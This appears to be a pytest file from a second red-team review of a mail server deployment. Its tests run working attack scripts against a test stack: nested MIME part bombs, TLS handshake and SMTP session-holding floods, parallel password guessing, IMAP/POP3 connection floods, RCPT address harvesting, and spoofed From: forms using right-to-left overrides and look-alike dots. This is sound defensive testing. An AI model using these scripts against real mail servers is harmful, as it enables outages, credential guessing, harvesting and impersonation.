"""Outside re-check of #21 (2026-12-07, second red team): attacks on the fixes of the first red
team's findings and on the rest of #21, from the test internet, a logged-in user and a
neighbouring pod. Each test states the attack and the defence it expects; a test that fails
shows a weakness that exists.
"""

from __future__ import annotations

import base64
import contextlib
import email.utils
import json
import secrets
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.mail.conftest import PASSWORDS, Stack
from tests.mail.messages import MDA, MTA, SENDER, text_message, token
from tests.mail.test_probes_under_load import release
from tests.mail.test_redteam import (
    HOLD_SMTP_SCRIPT,
    PARALLEL_SCRIPT,
    _health,
    multipart,
    send_from_internet,
)
from tests.mail.test_submission import login

# --- the too-complex check: parts that only appear once rspamd decodes a part -----------------


def nested_bomb(subject: str, parts: int, encoding: str = "base64") -> bytes:
    """A message whose one part is a message/rfc822 in ``encoding`` (base64 or
    quoted-printable): the raw message has no line starting with "--" beyond its own two
    boundaries, but rspamd decodes the part and parses the inner message's ``parts`` parts."""
    inner = multipart(token("inner"), parts, 'boundary="b"', "b")
    if encoding == "base64":
        encoded = base64.encodebytes(inner).replace(b"\n", b"\r\n")
    else:
        # Every "-" as =2D: no raw line starts with "--".
        encoded = inner.replace(b"=", b"=3D").replace(b"-", b"=2D")
    head = (
        f"From: {SENDER}\r\nTo: alice@example.com\r\nSubject: {subject}\r\n"
        f"Date: {email.utils.formatdate()}\r\nMessage-ID: {email.utils.make_msgid()}\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="outer"\r\n\r\n'
    ).encode()
    return (
        head
        + b"--outer\r\nContent-Type: message/rfc822\r\n"
        + f"Content-Transfer-Encoding: {encoding}\r\n\r\n".encode()
        + encoded
        + b"\r\n--outer--\r\n"
    )


@pytest.mark.parametrize("encoding", ["base64", "quoted-printable"])
def test_too_complex_counts_parts_inside_an_encoded_rfc822_part(
    stack: Stack, encoding: str
) -> None:
    """Attack: 5,000 parts (the bound is 1,000) inside a base64 (or quoted-printable)
    message/rfc822 part. The check counts "--" lines of the raw message only; rspamd decodes
    the part and parses every inner part. Expected: refused as too complex (451)."""
    code, text = send_from_internet(stack, nested_bomb(token("nested"), 5_000, encoding))
    assert code == 451 and "too complex" in text, (encoding, code, text)


NESTED_PARTS = 300_000  # 4 MB as base64 (messageSize is 10Mi in the fixture)


def test_nested_part_bombs_do_not_stall_submission(stack: Stack, tmp_path: Path) -> None:
    """Attack: 4 messages at once from one internet address, each one base64 message/rfc822
    part holding 300,000 tiny parts (the raw message has two "--" lines). Expected (#21 item
    1: scanning is bounded per message, 8 s): each bomb is answered within 15 s, and a user's
    submissions meanwhile each take under 15 s and succeed (the first red team's F2 with the
    check bypassed). Seen 2026-12-07: the bombs got 451 at Postfix's milter timeout (21.1 s,
    21.4 s) in both runs; submissions got 454 after 10 s in one run and passed in the other."""
    bomb = tmp_path / "nested.eml"
    bomb.write_bytes(nested_bomb(token("nested bomb"), NESTED_PARTS))
    attacker = subprocess.Popen(
        [
            *("ip", "netns", "exec", stack.internet.netns, sys.executable, "-c"),
            *(PARALLEL_SCRIPT, stack.internet.host_ip, str(stack.port("smtp")), SENDER),
            *("alice@example.com", "4", str(bomb)),
        ],
        stdout=subprocess.PIPE,
    )
    submissions: list[tuple[float, str]] = []
    try:
        time.sleep(3)  # the bombs are on their way to the scanner
        while attacker.poll() is None or not submissions:
            started = time.monotonic()
            try:
                with login(stack, "submission", "bob") as smtp:
                    smtp.send_message(
                        text_message(
                            token("meanwhile"), "carol@example.com", sender="bob@example.com"
                        )
                    )
                outcome = "250"
            except Exception as err:  # what a user sees
                outcome = f"{type(err).__name__}: {err}"[:120]
            submissions.append((round(time.monotonic() - started, 1), outcome))
    finally:
        out, _ = attacker.communicate(timeout=300)
    print(f"\nbombs: {out.decode().strip()}\nsubmissions (s, outcome): {submissions}")
    bombs = json.loads(out)
    assert all(seconds < 15 for _, seconds in bombs), bombs
    assert all(outcome == "250" and seconds < 15 for seconds, outcome in submissions), submissions


# --- the MDA's tunnels: a whole ClientHello, then silence ---------------------------------------

# ``count`` openers on host:port, each sending a whole, real TLS ClientHello (made by Python's
# ssl module) and then nothing, reconnecting when dropped: the hello gate admits each, and each
# then holds one of the tunnel's 200 connection slots for the whole handshake deadline (3 s).
# Prints "holding", runs until stdin closes.
HELLO_OPENERS_SCRIPT = r"""
import socket, ssl, sys, threading, time
host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
stop = threading.Event()
def hold():
    while not stop.is_set():
        try:
            sock = socket.create_connection((host, port), timeout=30)
            sock.sendall(client_hello())
            sock.settimeout(30)
            while sock.recv(65536):  # the server's flight, then the end at its deadline
                pass
            sock.close()
        except OSError:
            time.sleep(0.2)
for _ in range(count):
    threading.Thread(target=hold, daemon=True).start()
print("holding", flush=True)
sys.stdin.read()
stop.set()
"""
HELLO_OPENERS = 260  # more than the tunnel's connection slots (200)


def hello_openers(stack: Stack, port: int) -> subprocess.Popen[str]:
    """Openers in the MTA pod's network namespace (the only one the local run's policy lets
    through: they stand for any pod where the CNI does not enforce NetworkPolicies)."""
    mda = json.loads((stack.state / "endpoints.json").read_text())["pods"][f"mail/{MDA}"]
    postfix_pid = stack.own_daemon_pids()["postfix"].pop()
    holder = subprocess.Popen(
        [
            *("nsenter", "-t", str(postfix_pid), "-n", sys.executable, "-c"),
            *(HELLO_OPENERS_SCRIPT, mda, str(port), str(HELLO_OPENERS)),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout is not None and holder.stdout.readline() == "holding\n"
    time.sleep(4)
    return holder


def test_stalled_handshakes_after_a_whole_hello_do_not_stop_logins(stack: Stack) -> None:
    """Attack: 260 connections to the MDA's SASL tunnel (12345), each a whole ClientHello and
    then silence, reconnecting when cut (~90 handshakes/s). Expected: users still log in on 587
    and 465 (the first red team's F5 fix gates only on the hello being whole)."""
    outcomes: list[str] = []
    holder = hello_openers(stack, 12345)
    try:
        for port in ["submission", "submissions"] * 4:
            try:
                with login(stack, port, "bob"):
                    outcomes.append("235")
            except Exception as err:  # what a user sees
                outcomes.append(f"{type(err).__name__}: {err}"[:100])
    finally:
        release(holder)
    print(f"\nlogins during: {outcomes}")
    assert outcomes == ["235"] * 8, outcomes


def test_stalled_handshakes_after_a_whole_hello_do_not_stop_delivery(stack: Stack) -> None:
    """Attack: the same against the LMTP tunnel (24). Expected: inbound mail is delivered
    meanwhile (deferred is no loss, but every delivery waits while the attack lasts)."""
    subjects = [token("during hello openers") for _ in range(3)]
    holder = hello_openers(stack, 24)
    try:
        for subject in subjects:
            stack.send_from_internet(
                "alice@example.com", text_message(subject, "alice@example.com").as_bytes()
            )
        time.sleep(20)
        delivered = [s for s in subjects if any(m["Subject"] == s for m in stack.messages("alice"))]
    finally:
        release(holder)
    stack.flush_queue()
    for subject in subjects:  # nothing lost either way
        stack.wait_for_subject("alice", subject, timeout=90)
    print(f"\ndelivered during: {len(delivered)}/3")
    assert delivered == subjects, delivered


# --- the From: rule on submission ---------------------------------------------------------------

ALICE = "alice@example.com"


def _b(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def submit_raw(stack: Stack, raw: str, rcpt: str = "erin@example.com") -> tuple[int, str]:
    """DATA of ``raw`` sent by alice, logged in on 587; the reply (code, text)."""
    with login(stack, "submission", "alice") as smtp:
        assert smtp.mail(ALICE)[0] == 250
        assert smtp.rcpt(rcpt)[0] == 250
        code, text = smtp.data(raw.encode())
        return code, text.decode(errors="replace")


def with_headers(subject: str, headers: str) -> str:
    return (
        f"{headers}\r\nTo: erin@example.com\r\nSubject: {subject}\r\n"
        f"Date: {email.utils.formatdate()}\r\nMessage-ID: {email.utils.make_msgid()}\r\n"
        "\r\nhello\r\n"
    )


FROM_FORMS = {
    # Right-to-left override: stored "moc.elpmaxe@bob", shown "bob@example.com". The rule looks
    # for name@domain.tld in logical order; "@bob" has no dot.
    "rtl-override": f'From: "\u202emoc.elpmaxe@bob" <{ALICE}>',
    "rtl-override-encoded": f"From: {_b(chr(0x202E) + 'moc.elpmaxe@bob')} <{ALICE}>",
    # U+0387 GREEK ANO TELEIA is canonically equivalent to U+00B7 (NFC maps it there), which the
    # rule reads as a dot; it renders the same.
    "greek-ano-teleia": f'From: "bob@example\u0387com" <{ALICE}>',
    # U+30FB KATAKANA MIDDLE DOT and U+2219 BULLET OPERATOR, other dots a reader takes for one.
    "katakana-middle-dot": f'From: "bob@example\u30fbcom" <{ALICE}>',
    # A group (RFC 5322 3.4) named as another address and holding none: a client shows the
    # name as the author; rspamd finds no From: address, so the address rules do not apply.
    "empty-group": 'From: "bob@example.com":;',
    # A display name and the null address.
    "null-address": 'From: "bob@example.com" <>',
    # What the rules already refuse (these should pass: they are here as a control).
    "two-from-headers": f"From: {ALICE}\r\nFrom: bob@example.com",
    "two-addresses": f"From: {ALICE}, bob@example.com",
}


@pytest.mark.parametrize("form", list(FROM_FORMS))
def test_from_forms_showing_another_address_are_refused(stack: Stack, form: str) -> None:
    """Attack: alice, logged in on 587, sends to a colleague a From: that a mail client shows
    as bob@example.com. Expected: 554 (the display-name rule of #21 item 7)."""
    subject = token(f"from {form}")
    code, text = submit_raw(stack, with_headers(subject, FROM_FORMS[form]))
    assert code == 554, (form, code, text)


def test_a_sender_header_naming_a_colleague_is_refused(stack: Stack) -> None:
    """Attack: alice sends with her own From: and "Sender: bob@example.com". Outlook shows it
    as "bob@example.com on behalf of alice@example.com" (and DKIM signs it). Expected: 554, as
    for a From: that is not the login's."""
    subject = token("sender header")
    code, text = submit_raw(
        stack, with_headers(subject, f"From: {ALICE}\r\nSender: bob@example.com")
    )
    assert code == 554, (code, text)


# --- a user behind the attacker's address (one NAT) -------------------------------------------

# From ``source`` in the internet namespace: ``wrong`` AUTH attempts with a wrong password for
# grace on ``port`` (5 a session, sessions in parallel), then one with the right password.
# Prints [the replies' codes to the wrong ones, the right one's reply, seconds it took].
NAT_SMTP_SCRIPT = r"""
import json, smtplib, ssl, sys, threading, time
host, port, implicit, source, user, password, wrong = sys.argv[1:8]
port, implicit, wrong = int(port), implicit == "1", int(wrong)
context = ssl._create_unverified_context()
def session():
    if implicit:
        smtp = smtplib.SMTP_SSL(host, port, context=context, timeout=60,
                                source_address=(source, 0))
    else:
        smtp = smtplib.SMTP(host, port, timeout=60, source_address=(source, 0))
        smtp.ehlo("laptop.example.net")
        smtp.starttls(context=context)
    smtp.ehlo("laptop.example.net")
    return smtp
codes = []
def guess(count):
    try:
        smtp = session()
        for i in range(count):
            code, _ = smtp.docmd("AUTH", "PLAIN " + __import__("base64").b64encode(
                f"\0{user}\0wrong-{i}".encode()).decode())
            codes.append(code)
            if code == 421:
                break
        smtp.close()
    except (OSError, smtplib.SMTPException) as err:
        codes.append(type(err).__name__)
threads = [threading.Thread(target=guess, args=(5,)) for _ in range(wrong // 5)]
for t in threads: t.start()
for t in threads: t.join()
start = time.monotonic()
try:
    smtp = session()
    code, text = smtp.login(user, password)
    right = f"{code} {text.decode(errors='replace')}"
    smtp.quit()
except smtplib.SMTPException as err:
    right = f"{type(err).__name__}: {err}"
except OSError as err:
    right = f"{type(err).__name__}: {err}"
print(json.dumps([codes, right, round(time.monotonic() - start, 1)]))
"""

# The same on IMAP (993): ``wrong`` LOGINs with a wrong password in parallel, then the right one.
NAT_IMAP_SCRIPT = r"""
import imaplib, json, ssl, sys, threading, time, socket
host, port, source, user, password, wrong = sys.argv[1:7]
port, wrong = int(port), int(wrong)
context = ssl._create_unverified_context()
class Imap(imaplib.IMAP4_SSL):
    def _create_socket(self, timeout):
        sock = socket.create_connection((self.host, self.port), timeout, (source, 0))
        return self.ssl_context.wrap_socket(sock, server_hostname=self.host)
outcomes = []
def guess(i):
    try:
        imap = Imap(host, port, ssl_context=context, timeout=60)
        try:
            imap.login(user, f"wrong-{i}")
            outcomes.append("OK?")
        except imaplib.IMAP4.error:
            outcomes.append("NO")
        imap.shutdown()
    except OSError as err:
        outcomes.append(type(err).__name__)
threads = [threading.Thread(target=guess, args=(i,)) for i in range(wrong)]
for t in threads: t.start()
for t in threads: t.join()
start = time.monotonic()
try:
    imap = Imap(host, port, ssl_context=context, timeout=60)
    right = imap.login(user, password)[0]
    imap.logout()
except (imaplib.IMAP4.error, OSError) as err:
    right = f"{type(err).__name__}: {err}"
print(json.dumps([outcomes, right, round(time.monotonic() - start, 1)]))
"""


@contextlib.contextmanager
def internet_address(stack: Stack) -> Iterator[str]:
    """A further address of the internet namespace (routed from the host), so that what a test
    does to per-address limits stays off the namespace's main address."""
    source = f"10.102.{secrets.randbelow(250)}.{10 + secrets.randbelow(200)}"
    subprocess.run(
        ["ip", "-n", stack.internet.netns, "addr", "add", f"{source}/32", "dev", "eth0"],
        check=True,
    )
    subprocess.run(["ip", "route", "add", f"{source}/32", "dev", stack.internet.veth], check=True)
    try:
        yield source
    finally:
        subprocess.run(
            ["ip", "route", "del", f"{source}/32", "dev", stack.internet.veth], check=False
        )
        subprocess.run(
            ["ip", "-n", stack.internet.netns, "addr", "del", f"{source}/32", "dev", "eth0"],
            check=False,
        )


@pytest.mark.parametrize("port", ["submission", "submissions"])
def test_guesses_from_a_shared_address_do_not_lock_out_the_right_password_smtp(
    stack: Stack, port: str
) -> None:
    """Attack: 25 wrong AUTH attempts for grace in under a minute from one address (an office's
    or a carrier's NAT); then grace, behind the same address, logs in with her password.
    Expected: 235 (#21: "slow attackers without locking out users"). The fix's same-address
    test (test_hostile) fails 3 IMAP logins and no SMTP AUTH; smtpd_client_auth_rate_limit
    (20 a minute) counts every AUTH, right or wrong, per address and port."""
    with internet_address(stack) as source:
        out = json.loads(
            stack.run_in_internet(
                NAT_SMTP_SCRIPT,
                stack.internet.host_ip,
                str(stack.port(port)),
                "1" if port == "submissions" else "0",
                source,
                "grace@example.com",
                PASSWORDS["grace"],
                "25",
                timeout=180,
            )
        )
    print(f"\n{port}: wrong {out[0]}; right password: {out[1]} after {out[2]} s")
    assert out[1].startswith("235"), out


def test_guesses_from_a_shared_address_do_not_lock_out_the_right_password_imap(
    stack: Stack,
) -> None:
    """Attack: 20 wrong IMAP logins for grace at once from one address; then grace, behind the
    same address, logs in on 993. Expected: logged in within 30 s (Dovecot's penalty delays
    logins from the address up to 15 s; a client waits far longer)."""
    with internet_address(stack) as source:
        out = json.loads(
            stack.run_in_internet(
                NAT_IMAP_SCRIPT,
                stack.internet.host_ip,
                str(stack.port("imaps")),
                source,
                "grace@example.com",
                PASSWORDS["grace"],
                "20",
                timeout=240,
            )
        )
    print(f"\nimaps: wrong {out[0]}; right password: {out[1]} after {out[2]} s")
    assert out[1] == "OK" and out[2] < 30, out


# --- the submission ports held before login -----------------------------------------------------

# Holds ``count`` sessions on host:port from ``source``, each after the banner and EHLO (with
# STARTTLS on 587, TLS on 465), sending EHLO again every 4 s (smtpd's timeout is per read; EHLO
# is no junk command). Prints how many it holds, then holds them until stdin closes.
HOLD_SUBMISSION_SCRIPT = r"""
import json, smtplib, ssl, sys, threading, time
host, port, implicit, source, count = sys.argv[1:6]
port, implicit, count = int(port), implicit == "1", int(count)
context = ssl._create_unverified_context()
held, stop = [], threading.Event()
def hold():
    try:
        if implicit:
            smtp = smtplib.SMTP_SSL(host, port, context=context, timeout=30,
                                    source_address=(source, 0))
        else:
            smtp = smtplib.SMTP(host, port, timeout=30, source_address=(source, 0))
            smtp.ehlo("laptop.example.net")
            smtp.starttls(context=context)
        smtp.ehlo("laptop.example.net")
        held.append(smtp)
        while not stop.wait(4):
            smtp.ehlo("laptop.example.net")
    except (OSError, smtplib.SMTPException):
        return
threads = [threading.Thread(target=hold, daemon=True) for _ in range(count)]
for t in threads: t.start()
time.sleep(10)
print(json.dumps(len(held)), flush=True)
sys.stdin.read()
stop.set()
"""
HOLDERS = 6  # addresses, 17 sessions each (smtpConnections: 20 per address)


def submission_args(port: str) -> Callable[[Stack, str], list[str]]:
    """HOLD_SUBMISSION_SCRIPT's arguments after the host, for ``port``, from an address."""
    implicit = "1" if port == "submissions" else "0"
    return lambda stack, source: [str(stack.port(port)), implicit, source, "17"]


@contextlib.contextmanager
def holding(
    stack: Stack, script: str, per_address: list[Callable[[Stack, str], list[str]]]
) -> Iterator[list[int]]:
    """One holding ``script`` per new internet address, with the arguments after the host that
    ``per_address`` gives for it; yields how many sessions each holds, releases them after."""
    holders: list[subprocess.Popen[str]] = []
    with contextlib.ExitStack() as addresses:
        try:
            for arguments in per_address:
                source = addresses.enter_context(internet_address(stack))
                holders.append(
                    subprocess.Popen(
                        [
                            *("ip", "netns", "exec", stack.internet.netns, sys.executable),
                            *("-c", script, stack.internet.host_ip, *arguments(stack, source)),
                        ],
                        stdin=subprocess.PIPE,
                        stdout=subprocess.PIPE,
                        text=True,
                    )
                )
            yield [int(h.stdout.readline() or 0) for h in holders]  # type: ignore[union-attr]
        finally:
            for holder in holders:
                release(holder)


@pytest.mark.parametrize("port", ["submission", "submissions"])
def test_sessions_held_before_login_do_not_stop_submission(stack: Stack, port: str) -> None:
    """Attack: 102 sessions on 587 (or 465) from 6 internet addresses, each under the
    per-address limit of 20, each after EHLO (and TLS) and never logging in. Expected: a user
    still logs in and sends within 20 s (Postfix's process limit is 100 per service)."""
    with holding(stack, HOLD_SUBMISSION_SCRIPT, [submission_args(port)] * HOLDERS) as held:
        start = time.monotonic()
        try:
            with login(stack, port, "bob") as smtp:
                smtp.send_message(
                    text_message(token("held"), "carol@example.com", sender="bob@example.com")
                )
            outcome = "250"
        except Exception as err:  # what a user sees
            outcome = f"{type(err).__name__}: {err}"[:120]
        took = round(time.monotonic() - start, 1)
    print(f"\n{port}: held {held}; the user's submission: {outcome} after {took} s")
    assert sum(held) >= 95, held
    assert outcome == "250" and took < 20, (outcome, took)


# --- the login slots of IMAP and POP3 -----------------------------------------------------------

# Keeps ``count`` plain TCP connections open to host:port from ``source`` (no TLS hello, no
# command), reconnecting each as soon as Dovecot drops it. Prints "holding" once all are open,
# then on stdin's end how many reconnects it made.
LOGIN_FLOOD_SCRIPT = r"""
import selectors, socket, sys, threading, time
host, port, source, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
sel = selectors.DefaultSelector()
reconnects = 0
def open_one():
    sock = socket.socket()
    sock.bind((source, 0))
    sock.setblocking(False)
    sock.connect_ex((host, port))
    sel.register(sock, selectors.EVENT_READ)
for _ in range(count):
    open_one()
time.sleep(2)
print("holding", flush=True)
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
while not stop.is_set():
    for key, _ in sel.select(0.5):
        sock = key.fileobj
        try:
            data = sock.recv(4096)
        except OSError:
            data = b""
        if not data:
            sel.unregister(sock)
            sock.close()
            reconnects += 1
            open_one()
print(reconnects, flush=True)
"""
FLOOD = 1_100  # more than the 4 login processes' 250 places each


@pytest.mark.parametrize("protocol", ["imaps", "pop3s"])
def test_a_login_flood_from_one_address_does_not_stop_logins(stack: Stack, protocol: str) -> None:
    """Attack: 1,100 connections from one internet address to 993 (995) that send nothing,
    each reconnecting when Dovecot drops it (it drops the oldest when its 1,000 places are
    full). Expected: of ten logins in a row at least eight succeed, each within 20 s (one
    refused login that the client's retry gets past is no outage). Seen 2026-12-07 over three
    runs: 1 of 23 IMAP logins got "* BYE Connection queue full" (Dovecot dropped the user's
    connection as the oldest), POP3 23 of 23 ok, each in 0.1-1.6 s."""
    with internet_address(stack) as source:
        flood = subprocess.Popen(
            [
                *("ip", "netns", "exec", stack.internet.netns, sys.executable, "-c"),
                *(LOGIN_FLOOD_SCRIPT, stack.internet.host_ip, str(stack.port(protocol))),
                *(source, str(FLOOD)),
            ],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        outcomes: list[tuple[float, str]] = []
        try:
            assert flood.stdout is not None and flood.stdout.readline() == "holding\n"
            time.sleep(3)
            for _ in range(10):
                start = time.monotonic()
                try:
                    if protocol == "imaps":
                        stack.imap("grace").logout()
                    else:
                        stack.pop3("grace").quit()
                    outcome = "ok"
                except Exception as err:  # what a user sees
                    outcome = f"{type(err).__name__}: {err}"[:100]
                outcomes.append((round(time.monotonic() - start, 1), outcome))
        finally:
            assert flood.stdin is not None
            flood.stdin.close()
            reconnects = flood.stdout.read().strip() if flood.stdout else "?"
            release(flood)
    print(f"\n{protocol}: logins {outcomes}; the flood reconnected {reconnects} times")
    assert sum(1 for took, outcome in outcomes if outcome == "ok" and took < 20) >= 8, outcomes


# --- port 25 held from a few addresses: inbound mail ---------------------------------------------


def test_port_25_held_from_a_few_addresses_still_takes_mail(stack: Stack) -> None:
    """Attack: the first red team's F4 hold (102 sessions in DATA on port 25 from 6 internet
    addresses, each under the per-address limit of 20). F4 was fixed for the probes only.
    Expected: another sender's message is still taken (within the 30 s its client waits)."""
    subject = token("while 25 is held")
    in_data = [lambda stack, source: [str(stack.port("smtp")), source, "17"]] * HOLDERS
    with holding(stack, HOLD_SMTP_SCRIPT, in_data) as held:
        try:
            stack.send_from_internet(
                "alice@example.com", text_message(subject, "alice@example.com").as_bytes()
            )
            outcome = "taken"
        except (AssertionError, subprocess.TimeoutExpired) as err:
            outcome = str(err)[-200:]
    print(f"\nheld {held}; another sender's message: {outcome}")
    assert sum(held) >= 95, held
    assert outcome == "taken", outcome


# --- harvesting addresses: the tarpit and the recipient rate ----------------------------------

# From ``source``: 20 sessions at once, each trying 40 random addresses of example.com with
# RCPT TO (reconnecting when cut) for ``seconds``. Prints how many RCPTs got an answer that
# tells a known address from an unknown one (250 or 550).
HARVEST_SCRIPT = r"""
import json, secrets, smtplib, sys, threading, time
host, port, source, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
deadline = time.monotonic() + seconds
answered = []
def harvest():
    while time.monotonic() < deadline:
        try:
            smtp = smtplib.SMTP(host, port, timeout=10, source_address=(source, 0))
            smtp.ehlo("sink.example.net")
            smtp.mail("someone@example.net")
            for _ in range(40):
                if time.monotonic() > deadline:
                    break
                code = smtp.rcpt(f"{secrets.token_hex(4)}@example.com")[0]
                if code in (250, 550):
                    answered.append(code)
                elif code == 421:
                    break
            smtp.close()
        except (OSError, smtplib.SMTPException):
            time.sleep(0.5)
threads = [threading.Thread(target=harvest) for _ in range(20)]
for t in threads: t.start()
for t in threads: t.join()
print(json.dumps(len(answered)))
"""


def test_one_address_cannot_harvest_faster_than_the_recipient_rate(stack: Stack) -> None:
    """Attack: 20 parallel sessions from one internet address probe random addresses for
    30 s (the first red team: 403 addresses in 0.2 s). Expected: at most the recipient rate
    (200 a minute, so ~100 in 30 s) plus slack: under 250 answered."""
    with internet_address(stack) as source:
        answered = json.loads(
            stack.run_in_internet(
                HARVEST_SCRIPT,
                stack.internet.host_ip,
                str(stack.port("smtp")),
                source,
                "30",
                timeout=120,
            )
        )
    print(f"\nRCPTs answered 250/550 in 30 s from one address: {answered}")
    assert answered < 250, answered


# --- verdict headers a user writes: other spellings -------------------------------------------

VERDICT_SPELLINGS = {
    "lower-case": "x-spam-status: No, score=-10.00",
    "space-before-colon": "X-Spam-Status : No, score=-10.00",
    "folded": "X-Spam-Status:\r\n No, score=-10.00",
    "tab-before-colon": "X-Spam-Status\t: No, score=-10.00",
}


@pytest.mark.parametrize("spelling", list(VERDICT_SPELLINGS))
def test_a_users_verdict_header_in_any_spelling_does_not_reach_a_colleague(
    stack: Stack, spelling: str
) -> None:
    """Attack: alice sends erin "X-Spam-Status: No, score=-10.00" spelled as ``spelling``.
    Expected: delivered without it (the submission ports' header_checks)."""
    subject = token(f"verdict {spelling}")
    raw = with_headers(subject, f"From: {ALICE}\r\n{VERDICT_SPELLINGS[spelling]}")
    code, text = submit_raw(stack, raw)
    assert code == 250, (code, text)

    def stored() -> bytes | None:
        return next((r for r in stack.raw_messages("erin") if subject.encode() in r), None)

    raw_stored: bytes = stack.wait_for(f"{subject!r} in erin's INBOX", stored)
    head = raw_stored.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    assert b"score=-10.00" not in head, head.decode(errors="replace")


def test_both_submission_ports_held_leave_the_mta_ready(stack: Stack) -> None:
    """Attack: 102 sessions on 587 and 102 on 465 from 12 internet addresses (17 each), never
    logging in. Each smtpd of a submission port holds a connection to Dovecot's auth service
    through the MDA's SASL tunnel, which serves 200 at most; the MTA's readiness probe
    handshakes through that tunnel. Expected: the MTA stays ready (/readyz 200), else the pod
    leaves the Service and port 25 goes with it."""
    mta = json.loads((stack.state / "endpoints.json").read_text())["pods"][f"mail/{MTA}"]
    both = [submission_args("submission"), submission_args("submissions")] * HOLDERS
    with holding(stack, HOLD_SUBMISSION_SCRIPT, both) as held:
        time.sleep(2)
        readyz = [_health(mta, 9101, "/readyz") for _ in range(3)]
    print(f"\nheld {held} (sum {sum(held)}); MTA /readyz: {readyz}")
    assert sum(held) >= 190, held
    assert all(code == 200 for code, _ in readyz), readyz
